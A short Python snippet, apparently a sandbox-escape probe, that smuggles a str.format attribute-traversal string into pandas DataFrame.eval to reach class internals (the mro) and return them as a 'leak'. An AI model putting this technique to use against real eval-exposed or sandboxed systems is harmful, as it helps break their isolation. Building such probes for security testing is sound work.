# route: str.format within DataFrame.eval looks into the cells
import pandas as pd


def execute(testData):
    df = pd.DataFrame({"a": [execute]})
    return {"leak": str(df.eval("'{0.values.dtype.type.mro}'.format(a)"))}
